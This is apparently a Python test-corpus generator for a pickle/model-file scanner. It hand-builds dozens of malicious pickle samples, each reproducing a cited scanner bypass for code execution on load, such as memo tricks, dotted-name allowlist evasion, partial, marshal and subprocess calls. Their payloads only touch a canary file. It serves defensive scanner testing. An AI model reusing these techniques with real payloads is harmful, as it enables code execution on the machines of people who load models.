"""Generate the scanner corpus: malicious samples built opcode by opcode, clean files by real libs.

Every malicious payload is benign: if some loader ever executed it, the only effect would be to
create that sample's canary file under ``dest/canaries/``. Tests assert the canaries never appear.
Clean files are written by the real libraries (torch, numpy, joblib, scikit-learn, transformers,
lightning, safetensors, onnx, h5py) so that the scanner is judged on what users really load.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import io
import json
import marshal
import os
import pickle
import shutil
import struct
import tarfile
import types
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

__all__ = [
    "Corpus",
    "Sample",
    "build_clean",
    "build_corpus",
    "build_malicious",
    "canaries_fired",
    "sample_names",
]

Kind = Literal["malicious", "clean"]


@dataclass(frozen=True)
class Sample:
    """One corpus entry (a file or a model folder) under ``dest``.

    ``reference`` names the advisory, CVE, blog post or peer issue a malicious sample reproduces,
    or the library that wrote a clean one. ``canary`` is the file the payload would create if it
    ever ran (``None`` for samples whose danger is not code run at load time, such as a path in an
    ONNX model). ``expected_rules`` are the rule ids a scan of a malicious sample must raise (the
    sample failing at HIGH by anything else is a miss). ``trigger`` says which real loader
    would execute the payload (used by ``bench/corpus_liveness.py`` to prove the samples are
    live, never by the tests).
    """

    name: str
    relpath: str
    kind: Kind
    technique: str
    reference: str
    canary: Path | None = None
    expected_rules: tuple[str, ...] | None = None
    trigger: str | None = None

    def path(self, dest: Path) -> Path:
        """The sample's absolute path inside the corpus directory ``dest``."""
        return dest / self.relpath


def canaries_fired(dest: Path) -> list[str]:
    """Names of the canary files present under ``dest/canaries`` (must always be empty)."""
    d = dest / "canaries"
    return sorted(p.name for p in d.iterdir()) if d.is_dir() else []


# ------------------------------------------------------------------------------------------------
# Pickle assembly: opcodes written by hand so each sample is exactly the bytes a technique needs.
# ------------------------------------------------------------------------------------------------

MARK = b"("
STOP = b"."
POP = b"0"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
REDUCE = b"R"
BUILD = b"b"
EMPTY_DICT = b"}"
EMPTY_TUPLE = b")"
SETITEM = b"s"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
NONE = b"N"
P2 = b"\x80\x02"
P4 = b"\x80\x04"


def su(s: str) -> bytes:
    """A str pushed with SHORT_BINUNICODE (or BINUNICODE when long)."""
    b = s.encode()
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def bu8(s: str) -> bytes:
    b = s.encode()
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def uni(s: str) -> bytes:
    """Protocol-0 UNICODE opcode (raw-unicode-escape, newline terminated)."""
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def sbytes(b: bytes) -> bytes:
    return (b"C" + bytes([len(b)]) if len(b) < 256 else b"B" + struct.pack("<I", len(b))) + b


def bint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL fed by SHORT_BINUNICODE strings."""
    return su(module) + su(name) + STACK_GLOBAL


def g(module: str, name: str) -> bytes:
    """Text GLOBAL opcode."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)`` via MARK ... TUPLE REDUCE."""
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def code_of(canary: Path) -> str:
    """The benign payload: Python source that only creates the canary file."""
    return f"open({str(canary)!r}, 'w').close()"


def p4(body: bytes) -> bytes:
    return P4 + body + STOP


def exec_payload(canary: Path) -> bytes:
    return call(sg("builtins", "exec"), su(code_of(canary)))


class _Reduce:
    """Pickles as ``fn(*args)``; lets the real pickler emit every protocol's own encoding."""

    def __init__(self, fn: Any, args: tuple[Any, ...]) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args


def _evil(canary: Path) -> _Reduce:
    return _Reduce(exec, (code_of(canary),))


# ------------------------------------------------------------------------------------------------
# Malicious samples
# ------------------------------------------------------------------------------------------------

Builder = Callable[[Path, Path], None]
"""Writes the sample at the given path; the second argument is the canary path."""


@dataclass(frozen=True)
class _Mal:
    name: str
    ext: str
    technique: str
    reference: str
    build: Builder
    trigger: str | None = "pickle"
    canary: bool = True
    folder: bool = False
    expected_rules: tuple[str, ...] | None = None


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".tmp")
    tmp.write_bytes(data)
    os.replace(tmp, path)


def _bytes_sample(fn: Callable[[Path], bytes]) -> Builder:
    def build(path: Path, canary: Path) -> None:
        _write(path, fn(canary))

    return build


# -- pickle opcode techniques --------------------------------------------------------------------


def _proto_n(n: int) -> Callable[[Path], bytes]:
    def f(c: Path) -> bytes:
        return pickle.dumps(_evil(c), protocol=n)

    return f


def _stack_global_from_memo(c: Path) -> bytes:
    # picklescan#22 (ImaginaryCTF "Safe Pickle"): the strings reach STACK_GLOBAL through the memo.
    return p4(
        su("builtins")
        + b"q\x01"
        + POP
        + su("exec")
        + b"q\x02"
        + POP
        + su("os")
        + su("getcwd")
        + b"h\x01h\x02"
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
        + POP
        + POP
        + POP
        + NONE
    )


def _stack_global_memoize_long(c: Path) -> bytes:
    return p4(
        su("collections")
        + MEMOIZE
        + POP
        + su("OrderedDict")
        + MEMOIZE
        + POP
        + bu8("builtins")
        + MEMOIZE
        + bu8("exec")
        + MEMOIZE
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
    )


def _stack_global_from_opcode(push: Callable[[str], bytes]) -> Callable[[Path], bytes]:
    def f(c: Path) -> bytes:
        return P4 + push("builtins") + push("exec") + STACK_GLOBAL + su(code_of(c)) + b"\x85R."

    return f


def _push_binunicode(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def _push_string(s: str) -> bytes:
    # STRING is decoded with the unpickler's encoding (ASCII by default) into a str.
    return b"S'" + s.encode() + b"'\n"


def _push_short_binstring(s: str) -> bytes:
    return b"U" + bytes([len(s)]) + s.encode()


def _push_binstring(s: str) -> bytes:
    return b"T" + struct.pack("<I", len(s)) + s.encode()


def _global_proto0(c: Path) -> bytes:
    return g("os", "system") + MARK + uni(f"touch {c}") + b"tR."


def _global_posix_system(c: Path) -> bytes:
    return P2 + call(g("posix", "system"), su(f"touch {c}")) + STOP


def _inst(c: Path) -> bytes:
    return MARK + uni(code_of(c)) + b"ibuiltins\nexec\n."


def _obj(c: Path) -> bytes:
    return P2 + MARK + g("builtins", "exec") + su(code_of(c)) + b"o."


def _newobj_partial(c: Path) -> bytes:
    # functools.partial does its work in __new__, so NEWOBJ alone builds exec-with-args.
    return p4(
        sg("functools", "partial")
        + sg("builtins", "exec")
        + su(code_of(c))
        + TUPLE2
        + NEWOBJ
        + EMPTY_TUPLE
        + REDUCE
    )


def _newobj_ex_partial(c: Path) -> bytes:
    return p4(
        sg("functools", "partial")
        + sg("builtins", "exec")
        + su(code_of(c))
        + TUPLE2
        + EMPTY_DICT
        + NEWOBJ_EX
        + EMPTY_TUPLE
        + REDUCE
    )


def _build_setstate_injection(c: Path) -> bytes:
    # BUILD #1 puts exec into the instance __dict__ as __setstate__; BUILD #2 then calls it.
    return p4(
        call(sg("argparse", "Namespace"))
        + EMPTY_DICT
        + su("__setstate__")
        + sg("builtins", "exec")
        + SETITEM
        + BUILD
        + su(code_of(c))
        + BUILD
    )


def _ext(code: int, width: int) -> Callable[[Path], bytes]:
    op = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[width]
    fmt = {1: "<B", 2: "<H", 4: "<i"}[width]

    def f(c: Path) -> bytes:
        return p4(op + struct.pack(fmt, code) + su(code_of(c)) + TUPLE1 + REDUCE)

    return f


def _binpersid_reduce(c: Path) -> bytes:
    # The persistent id tuple is built by REDUCE before persistent_load ever sees it.
    return P2 + exec_payload(c) + TUPLE1 + b"Q." + b""


def _persid_after_payload(c: Path) -> bytes:
    return P2 + exec_payload(c) + POP + b"P0\n."


def _memo_get_undefined(c: Path) -> bytes:
    return P4 + exec_payload(c) + POP + b"h\x63" + STOP


def _frame_understated(c: Path) -> bytes:
    body = exec_payload(c) + STOP
    return P4 + b"\x95" + struct.pack("<Q", 4) + body


def _frame_zero_then_payload(c: Path) -> bytes:
    body = exec_payload(c) + STOP
    return P4 + b"\x95" + struct.pack("<Q", 0) + b"\x95" + struct.pack("<Q", len(body)) + body


def _two_pickles(c: Path) -> bytes:
    return pickle.dumps({"epoch": 3, "lr": 0.1}, protocol=2) + pickle.dumps(_evil(c), protocol=2)


def _garbage_after_stop(c: Path) -> bytes:
    return pickle.dumps(_evil(c), protocol=4) + b"\xff\xfe garbage \x00" * 8


def _invalid_opcode_after_payload(c: Path) -> bytes:
    return P4 + exec_payload(c) + b"\xff\xfe\xfd"


def _truncated_after_payload(c: Path) -> bytes:
    return P4 + exec_payload(c)


def _builtin_fix_imports(c: Path) -> bytes:
    return P2 + call(g("__builtin__", "eval"), su(code_of(c))) + STOP


def _copy_reg_reconstructor(c: Path) -> bytes:
    # copy_reg (fix_imports -> copyreg)._reconstructor runs base.__init__(obj, state).
    return (
        P2
        + call(
            g("copy_reg", "_reconstructor"),
            g("subprocess", "Popen"),
            g("subprocess", "Popen"),
            b"]" + MARK + su("touch") + su(str(c)) + b"e",
        )
        + STOP
    )


def _dotted(module: str, name: str, arg: Callable[[Path], str]) -> Callable[[Path], bytes]:
    def f(c: Path) -> bytes:
        return p4(call(sg(module, name), su(arg(c))))

    return f


def _touch(c: Path) -> str:
    return f"touch {c}"


def _getattr_import_chain(c: Path) -> bytes:
    return p4(
        call(
            call(
                sg("builtins", "getattr"),
                call(sg("builtins", "__import__"), su("os")),
                su("system"),
            ),
            su(_touch(c)),
        )
    )


def _getattr_from_memo(c: Path) -> bytes:
    ga = sg("builtins", "getattr") + b"q\x07"
    inner = call(b"h\x07", call(sg("importlib", "import_module"), su("os")), su("system"))
    return p4(ga + POP + call(inner, su(_touch(c))))


def _operator_attrgetter(c: Path) -> bytes:
    getter = call(sg("operator", "attrgetter"), su("system"))
    return p4(call(call(getter, call(sg("importlib", "import_module"), su("os"))), su(_touch(c))))


def _underscore_operator_attrgetter(c: Path) -> bytes:
    getter = call(sg("_operator", "attrgetter"), su("path.os.system"))
    return p4(call(call(getter, call(sg("importlib", "import_module"), su("os"))), su(_touch(c))))


def _operator_methodcaller(c: Path) -> bytes:
    path = call(sg("pathlib", "PosixPath"), su(str(c)))
    return p4(call(call(sg("operator", "methodcaller"), su("touch")), path))


def _functools_partial(c: Path) -> bytes:
    part = call(sg("functools", "partial"), sg("builtins", "exec"), su(code_of(c)))
    return p4(call(part))


def _importlib_import_module(c: Path) -> bytes:
    mod = call(sg("importlib", "import_module"), su("os"))
    return p4(call(call(sg("builtins", "getattr"), mod, su("system")), su(_touch(c))))


def _pkgutil_resolve_name(c: Path) -> bytes:
    return p4(call(call(sg("pkgutil", "resolve_name"), su("os:system")), su(_touch(c))))


def _functiontype_marshal(c: Path) -> bytes:
    code = marshal.dumps(compile(code_of(c), "<payload>", "exec"))
    fn = call(sg("types", "FunctionType"), call(sg("marshal", "loads"), sbytes(code)), EMPTY_DICT)
    return p4(call(fn))


def _runpy_run_code(c: Path) -> bytes:
    return p4(call(sg("runpy", "_run_code"), su(code_of(c)), EMPTY_DICT))


def _methodcall(obj: bytes, method: str, *args: bytes) -> bytes:
    return call(call(sg("operator", "methodcaller"), su(method), *args), obj)


def _bdb_run(c: Path) -> bytes:
    return p4(_methodcall(call(sg("bdb", "Bdb")), "run", su(code_of(c))))


def _cprofile_run(c: Path) -> bytes:
    return p4(call(sg("cProfile", "run"), su(code_of(c))))


def _profile_run(c: Path) -> bytes:
    return p4(call(sg("profile", "run"), su(code_of(c))))


def _timeit(c: Path) -> bytes:
    return p4(
        call(
            sg("timeit", "timeit"), su("pass"), su(code_of(c)), sg("time", "perf_counter"), bint(1)
        )
    )


def _trace_run(c: Path) -> bytes:
    return p4(_methodcall(call(sg("trace", "Trace"), bint(0), bint(0)), "run", su(code_of(c))))


def _pdb_run(c: Path) -> bytes:
    return p4(call(sg("pdb", "run"), su(code_of(c))))


def _code_interp(c: Path) -> bytes:
    return p4(_methodcall(call(sg("code", "InteractiveInterpreter")), "runsource", su(code_of(c))))


def _ctypes_system(c: Path) -> bytes:
    libc = call(sg("ctypes", "CDLL"), NONE)
    return p4(call(call(sg("builtins", "getattr"), libc, su("system")), sbytes(_touch(c).encode())))


def _asyncio_subprocess(c: Path) -> bytes:
    coro = call(sg("asyncio", "create_subprocess_exec"), su("touch"), su(str(c)))
    return p4(call(sg("asyncio", "run"), coro))


def _pty_spawn(c: Path) -> bytes:
    return p4(call(sg("pty", "spawn"), b"]" + MARK + su("touch") + su(str(c)) + b"e"))


def _posixsubprocess(c: Path) -> bytes:
    # Python 3.11 signature of _posixsubprocess.fork_exec (23 positional arguments); close_fds is
    # off so the error pipe (memoised os.pipe()) stays open without listing it in fds_to_keep.
    args = (
        b"]" + MARK + sbytes(b"touch") + sbytes(str(c).encode()) + b"e",
        b"]" + MARK + sbytes(b"/usr/bin/touch") + sbytes(b"/bin/touch") + b"e",
        b"\x89",
        EMPTY_TUPLE,
        NONE,
        NONE,
        bint(-1),
        bint(-1),
        bint(-1),
        bint(-1),
        bint(-1),
        bint(-1),
        call(sg("_operator", "getitem"), call(sg("os", "pipe")) + b"q\x09", bint(0)),
        call(sg("_operator", "getitem"), b"h\x09", bint(1)),
        b"\x88",
        b"\x89",
        bint(-1),
        NONE,
        NONE,
        NONE,
        bint(-1),
        NONE,
        b"\x89",
    )
    return p4(call(sg("_posixsubprocess", "fork_exec"), *args))


def _pip_main(c: Path) -> bytes:
    lst = b"]" + MARK + su("--log") + su(str(c)) + su("config") + su("list") + b"e"
    return p4(call(sg("pip", "main"), lst))


def _ensurepip_run_pip(c: Path) -> bytes:
    lst = b"]" + MARK + su("--log") + su(str(c)) + su("config") + su("list") + b"e"
    return p4(call(sg("ensurepip", "_run_pip"), lst))


def _numpy_runstring(c: Path) -> bytes:
    return p4(call(sg("numpy.testing._private.utils", "runstring"), su(code_of(c)), EMPTY_DICT))


def _zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _torch_save_bytes(obj: Any, **kw: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def _torch_evil_zip(c: Path) -> bytes:
    import torch

    return _torch_save_bytes({"weight": torch.zeros(2), "hook": _evil(c)})


def _torch_load_nested(c: Path) -> bytes:
    inner = _torch_evil_zip(c)
    bio = call(sg("_io", "BytesIO"), sbytes(inner))
    return p4(call(sg("torch", "load"), bio, NONE, sg("torch.serialization", "pickle")))


def _torch_load_from_bytes(c: Path) -> bytes:
    return p4(call(sg("torch.storage", "_load_from_bytes"), sbytes(_torch_evil_zip(c))))


def _npy_object_bytes(c: Path) -> bytes:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = 1
    arr[1] = _evil(c)
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def _numpy_load_nested(c: Path) -> bytes:
    bio = call(sg("_io", "BytesIO"), sbytes(_npy_object_bytes(c)))
    return p4(call(sg("numpy", "load"), bio, NONE, b"\x88"))


def _joblib_load_nested(c: Path) -> bytes:
    bio = call(sg("_io", "BytesIO"), sbytes(pickle.dumps(_evil(c), protocol=4)))
    return p4(call(sg("joblib", "load"), bio))


def _pickle_loads_nested(c: Path) -> bytes:
    return p4(call(sg("pickle", "loads"), sbytes(pickle.dumps(_evil(c), protocol=4))))


def _pickle_loads_base64(c: Path) -> bytes:
    enc = base64.b64encode(pickle.dumps(_evil(c), protocol=2))
    return p4(call(sg("_pickle", "loads"), call(sg("base64", "b64decode"), sbytes(enc))))


def _shutil_copyfile(c: Path) -> bytes:
    return p4(call(sg("shutil", "copyfile"), su(os.devnull), su(str(c))))


def _os_mkdir(c: Path) -> bytes:
    return p4(call(sg("os", "mkdir"), su(str(c))))


def _os_open_creat(c: Path) -> bytes:
    return p4(call(sg("os", "open"), su(str(c)), bint(os.O_CREAT | os.O_WRONLY)))


def _io_fileio(c: Path) -> bytes:
    return p4(call(sg("_io", "FileIO"), su(str(c)), su("w")))


def _builtins_open(c: Path) -> bytes:
    return p4(call(sg("builtins", "open"), su(str(c)), su("w")))


def _socket_bind(c: Path) -> bytes:
    sock = call(sg("socket", "socket"), bint(1))
    return p4(_methodcall(sock, "bind", su(str(c))))


def _webbrowser(c: Path) -> bytes:
    browser = call(
        sg("webbrowser", "GenericBrowser"), b"]" + MARK + su("touch") + su(str(c)) + b"e"
    )
    return p4(_methodcall(browser, "open", su("about:blank")))


def _urlretrieve(c: Path) -> bytes:
    return p4(call(sg("urllib.request", "urlretrieve"), su("file://" + os.devnull), su(str(c))))


def _eval_compile(c: Path) -> bytes:
    code = call(sg("builtins", "compile"), su(code_of(c)), su("<s>"), su("exec"))
    return p4(call(sg("builtins", "eval"), code))


def _sys_modules_getitem(c: Path) -> bytes:
    mods = sg("sys", "modules")
    os_mod = call(sg("_operator", "getitem"), mods, su("os"))
    return p4(call(call(sg("builtins", "getattr"), os_mod, su("system")), su(_touch(c))))


def _subprocess_popen(c: Path) -> bytes:
    return p4(call(sg("subprocess", "Popen"), b"]" + MARK + su("touch") + su(str(c)) + b"e"))


def _subprocess_check_output(c: Path) -> bytes:
    return p4(call(sg("subprocess", "check_output"), b"]" + MARK + su("touch") + su(str(c)) + b"e"))


def _os_popen(c: Path) -> bytes:
    return p4(call(sg("os", "popen"), su(_touch(c))))


def _posix_spawnp(c: Path) -> bytes:
    argv = b"]" + MARK + su("touch") + su(str(c)) + b"e"
    return p4(call(sg("os", "posix_spawnp"), su("touch"), argv, EMPTY_DICT))


def _doctest(c: Path) -> bytes:
    return p4(
        call(sg("doctest", "run_docstring_examples"), su(">>> " + code_of(c) + "\n"), EMPTY_DICT)
    )


def _venv_create(c: Path) -> bytes:
    return p4(call(sg("venv", "create"), su(str(c))))


def _mailcap_findmatch(c: Path) -> bytes:
    caps = (
        EMPTY_DICT
        + su("text/plain")
        + b"]"
        + EMPTY_DICT
        + su("view")
        + su("true")
        + SETITEM
        + su("test")
        + su(_touch(c))
        + SETITEM
        + b"a"
        + SETITEM
    )
    return p4(call(sg("mailcap", "findmatch"), caps, su("text/plain")))


def _rebuild_tensor_decoy(c: Path) -> bytes:
    # An allowlisted-looking torch global first, then the payload: scanners that stop at the
    # first "known" global or trust a torch prefix miss the second call.
    return p4(
        call(sg("collections", "OrderedDict"))
        + POP
        + call(sg("torch._utils", "_rebuild_parameter"), NONE, b"\x89", EMPTY_DICT)
        + POP
        + exec_payload(c)
    )


def _reduce_in_dict_value(c: Path) -> bytes:
    return p4(
        EMPTY_DICT
        + su("state_dict")
        + call(sg("collections", "OrderedDict"))
        + SETITEM
        + su("optimizer")
        + exec_payload(c)
        + SETITEM
    )


def _memo_put_overwrite(c: Path) -> bytes:
    # Keys 1 and 2 first hold a harmless name, then are PUT again: the unpickler uses the last.
    return p4(
        su("collections")
        + b"q\x01"
        + POP
        + su("OrderedDict")
        + b"q\x02"
        + POP
        + su("builtins")
        + b"q\x01"
        + POP
        + su("exec")
        + b"q\x02"
        + POP
        + b"h\x01h\x02"
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
    )


def _memoize_after_sparse_binput(c: Path) -> bytes:
    # MEMOIZE stores at len(memo), not at max(key) + 1 or at a count of MEMOIZE opcodes.
    return p4(
        su("collections")
        + b"q\x00"
        + POP
        + su("OrderedDict")
        + b"q\x07"
        + POP
        + su("builtins")
        + MEMOIZE
        + POP
        + su("exec")
        + MEMOIZE
        + POP
        + b"h\x02h\x03"
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
    )


def _proto_switch_fix_imports(c: Path) -> bytes:
    # A second PROTO opcode mid-stream lowers the protocol, which turns fix_imports back on.
    inner = pickle.dumps(_evil(c), protocol=2)
    return P4 + NONE + POP + P2 + call(g("cPickle", "loads"), sbytes(inner)) + STOP


def _proto_switch_dotted(c: Path) -> bytes:
    # Dotted names only resolve at protocol >= 4; the stream starts at 2 and switches to 4.
    return P2 + NONE + POP + P4 + call(sg("pathlib", "os.system"), su(_touch(c))) + STOP


def _fix_imports_commands(c: Path) -> bytes:
    return P2 + call(g("commands", "getoutput"), su(_touch(c))) + STOP


def _fix_imports_urllib(c: Path) -> bytes:
    return P2 + call(g("urllib", "urlretrieve"), su("file://" + os.devnull), su(str(c))) + STOP


def _dotted_allowlisted_module(c: Path) -> bytes:
    inner = _torch_evil_zip(c)
    return p4(call(sg("torch.nn.modules.linear", "torch.storage._load_from_bytes"), sbytes(inner)))


def _dup_global(c: Path) -> bytes:
    return p4(sg("builtins", "exec") + b"2" + POP + su(code_of(c)) + TUPLE1 + REDUCE)


def _next_buffer_after_payload(c: Path) -> bytes:
    return b"\x80\x05" + exec_payload(c) + POP + b"\x97" + STOP


def _mal_pickles() -> list[_Mal]:
    b = _bytes_sample
    gh = "https://github.com/mmaitre314/picklescan/security/advisories/"
    out = [
        _Mal(
            f"reduce_exec_protocol_{n}",
            ".pkl",
            f"__reduce__ to builtins.exec, protocol {n} as written by pickle.dumps",
            "Python docs: pickle is not secure (classic __reduce__ RCE)",
            b(_proto_n(n)),
        )
        for n in range(6)
    ]
    out += [
        _Mal(
            "global_os_system_protocol0",
            ".pkl",
            "text GLOBAL os.system + REDUCE",
            "fickling README / Trail of Bits 'Never a dill moment'",
            b(_global_proto0),
        ),
        _Mal(
            "global_posix_system",
            ".pkl",
            "GLOBAL posix.system (os.system's real module)",
            "CVE-2025-10155 / ModelAudit PR #605 posix.system",
            b(_global_posix_system),
        ),
        _Mal(
            "stack_global_memo_strings",
            ".pkl",
            "STACK_GLOBAL whose strings come from BINGET of the memo",
            "picklescan issue #22 (ImaginaryCTF Safe Pickle)",
            b(_stack_global_from_memo),
        ),
        _Mal(
            "stack_global_memoize_binunicode8",
            ".pkl",
            "STACK_GLOBAL fed by BINUNICODE8 strings with MEMOIZE in between",
            "picklescan GHSA-9gvj-pp9x-gcfr (parsing logic flaw)",
            b(_stack_global_memoize_long),
        ),
        _Mal(
            "stack_global_binunicode",
            ".pkl",
            "STACK_GLOBAL fed by BINUNICODE",
            "pickletools opcode table",
            b(_stack_global_from_opcode(_push_binunicode)),
        ),
        _Mal(
            "stack_global_unicode_text",
            ".pkl",
            "STACK_GLOBAL fed by protocol-0 UNICODE lines",
            "CPython _pickle accepts any str for STACK_GLOBAL",
            b(_stack_global_from_opcode(uni)),
        ),
        _Mal(
            "stack_global_string_opcode",
            ".pkl",
            "STACK_GLOBAL fed by STRING decoded to str",
            "CPython _pickle load_string",
            b(_stack_global_from_opcode(_push_string)),
        ),
        _Mal(
            "stack_global_short_binstring",
            ".pkl",
            "STACK_GLOBAL fed by SHORT_BINSTRING",
            "CPython _pickle load_counted_binstring",
            b(_stack_global_from_opcode(_push_short_binstring)),
        ),
        _Mal(
            "stack_global_binstring",
            ".pkl",
            "STACK_GLOBAL fed by BINSTRING",
            "CPython _pickle load_counted_binstring",
            b(_stack_global_from_opcode(_push_binstring)),
        ),
        _Mal(
            "inst_opcode_exec",
            ".pkl",
            "INST builtins.exec (class + call in one opcode)",
            "pickletools INST; fickling issue on INST handling",
            b(_inst),
        ),
        _Mal(
            "obj_opcode_exec",
            ".pkl",
            "OBJ with builtins.exec as the 'class'",
            "CPython _pickle load_obj -> instantiate",
            b(_obj),
        ),
        _Mal(
            "newobj_functools_partial",
            ".pkl",
            "NEWOBJ builds functools.partial(exec, code)",
            "fickling PR #210 (functools.partial wrapper bypass)",
            b(_newobj_partial),
        ),
        _Mal(
            "newobj_ex_functools_partial",
            ".pkl",
            "NEWOBJ_EX builds functools.partial(exec, code)",
            "pickletools NEWOBJ_EX",
            b(_newobj_ex_partial),
        ),
        _Mal(
            "build_setstate_injection",
            ".pkl",
            "BUILD puts exec into __dict__['__setstate__'], second BUILD calls it",
            "Trail of Bits 'Exploiting ML pickle files' (BUILD/__setstate__)",
            b(_build_setstate_injection),
        ),
        _Mal(
            "ext1_extension_registry",
            ".pkl",
            "EXT1 code resolved through copyreg's extension registry",
            "pickletools EXT1 / copyreg.add_extension",
            b(_ext(0xF0, 1)),
            trigger="pickle_ext:240",
        ),
        _Mal(
            "ext2_extension_registry",
            ".pkl",
            "EXT2 code resolved through copyreg's extension registry",
            "pickletools EXT2",
            b(_ext(0x1234, 2)),
            trigger="pickle_ext:4660",
        ),
        _Mal(
            "ext4_extension_registry",
            ".pkl",
            "EXT4 code resolved through copyreg's extension registry",
            "pickletools EXT4",
            b(_ext(0x123456, 4)),
            trigger="pickle_ext:1193046",
        ),
        _Mal(
            "binpersid_pid_built_by_reduce",
            ".pkl",
            "BINPERSID whose pid is the result of exec",
            "torch legacy persistent_load receives attacker tuples",
            b(_binpersid_reduce),
        ),
        _Mal(
            "persid_after_payload",
            ".pkl",
            "payload before a PERSID the plain unpickler rejects",
            "CPython _pickle load_persid",
            b(_persid_after_payload),
        ),
        _Mal(
            "memo_get_undefined_key",
            ".pkl",
            "payload then BINGET of a memo key never PUT",
            "picklescan memo handling (issue #22)",
            b(_memo_get_undefined),
        ),
        _Mal(
            "frame_length_understated",
            ".pkl",
            "FRAME declares 4 bytes, payload runs past it",
            "CPython _pickle load_frame only checks availability",
            b(_frame_understated),
        ),
        _Mal(
            "frame_zero_then_real_frame",
            ".pkl",
            "empty FRAME followed by the payload frame",
            "pickle protocol 4 PEP 3154 framing",
            b(_frame_zero_then_payload),
        ),
        _Mal(
            "two_pickles_payload_in_second",
            ".pkl",
            "clean pickle then a payload pickle in one stream",
            "torch legacy format stacks pickles; fickling --inject-target",
            b(_two_pickles),
            trigger="pickle_stream",
        ),
        _Mal(
            "garbage_after_stop",
            ".pkl",
            "payload pickle followed by garbage bytes",
            "ModelAudit/aisbom: broken tails must not hide payloads",
            b(_garbage_after_stop),
        ),
        _Mal(
            "invalid_opcode_after_payload",
            ".pkl",
            "payload REDUCE then an invalid opcode (no STOP)",
            "picklescan GHSA-9gvj-pp9x-gcfr; fickling PR #164 (malformed pickles)",
            b(_invalid_opcode_after_payload),
        ),
        _Mal(
            "truncated_after_payload",
            ".pkl",
            "stream ends right after the payload REDUCE",
            "aisbom CHANGELOG: truncated streams are scanned",
            b(_truncated_after_payload),
        ),
        _Mal(
            "fix_imports___builtin___eval",
            ".pkl",
            "__builtin__.eval mapped by fix_imports",
            "ModelAudit PR #241 (__builtin__ variants)",
            b(_builtin_fix_imports),
        ),
        _Mal(
            "copy_reg_reconstructor_popen",
            ".pkl",
            "copy_reg._reconstructor(Popen, Popen, argv) runs Popen.__init__",
            "copyreg._reconstructor semantics; fix_imports copy_reg",
            b(_copy_reg_reconstructor),
        ),
        _Mal(
            "dotted_pathlib_os_system",
            ".pkl",
            "STACK_GLOBAL pathlib + 'os.system' attribute path",
            "CPython find_class dotted names (protocol 4)",
            b(_dotted("pathlib", "os.system", _touch)),
        ),
        _Mal(
            "dotted_argparse__os_system",
            ".pkl",
            "STACK_GLOBAL argparse + '_os.system'",
            "picklescan issue #66 (attribute chains)",
            b(_dotted("argparse", "_os.system", _touch)),
        ),
        _Mal(
            "dotted_torch_serialization_os_system",
            ".pkl",
            "STACK_GLOBAL torch.serialization + 'os.system' (torch prefix allowlists)",
            "picklescan issue #66; allowlist-by-prefix bypass",
            b(_dotted("torch.serialization", "os.system", _touch)),
        ),
        _Mal(
            "dotted_builtins_getattr_chain",
            ".pkl",
            "getattr(__import__('os'), 'system')",
            "picklescan GHSA-655q-fx9r-782v",
            b(_getattr_import_chain),
        ),
        _Mal(
            "getattr_from_memo",
            ".pkl",
            "builtins.getattr memoised once, called via BINGET",
            "picklescan issue #22 (memo)",
            b(_getattr_from_memo),
        ),
        _Mal(
            "operator_attrgetter",
            ".pkl",
            "operator.attrgetter('system')(os)",
            gh + "GHSA-m273-6v24-x4m4",
            b(_operator_attrgetter),
        ),
        _Mal(
            "_operator_attrgetter_dotted",
            ".pkl",
            "_operator.attrgetter('path.os.system')",
            gh + "GHSA-955r-x9j8-7rhh",
            b(_underscore_operator_attrgetter),
        ),
        _Mal(
            "operator_methodcaller_touch",
            ".pkl",
            "operator.methodcaller('touch')(PosixPath(canary))",
            gh + "GHSA-46h3-79wf-xr6c",
            b(_operator_methodcaller),
        ),
        _Mal(
            "functools_partial_exec",
            ".pkl",
            "functools.partial(exec, code)()",
            "fickling PR #210",
            b(_functools_partial),
        ),
        _Mal(
            "importlib_import_module",
            ".pkl",
            "importlib.import_module('os') + getattr",
            "picklescan PR #74 (importlib bypass)",
            b(_importlib_import_module),
        ),
        _Mal(
            "pkgutil_resolve_name",
            ".pkl",
            "pkgutil.resolve_name('os:system')",
            gh + "GHSA-vvpj-8cmc-gx39",
            b(_pkgutil_resolve_name),
        ),
        _Mal(
            "types_functiontype_marshal_loads",
            ".pkl",
            "FunctionType(marshal.loads(code), {})()",
            "picklescan PR #74 (marshal bypass)",
            b(_functiontype_marshal),
        ),
        _Mal(
            "runpy__run_code",
            ".pkl",
            "runpy._run_code(source, {})",
            "fickling UNSAFE_IMPORTS (runpy)",
            b(_runpy_run_code),
        ),
        _Mal(
